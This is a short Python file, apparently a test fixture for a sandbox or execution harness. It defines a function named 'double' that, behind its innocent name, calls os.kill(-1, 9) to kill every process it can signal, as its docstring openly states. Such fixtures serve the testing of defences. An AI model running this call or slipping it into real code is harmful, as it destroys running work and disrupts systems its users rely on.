"""Kills every process that it may, with kill(-1)."""
# bites: death
import os


def double(x):
    os.kill(-1, 9)
    return x
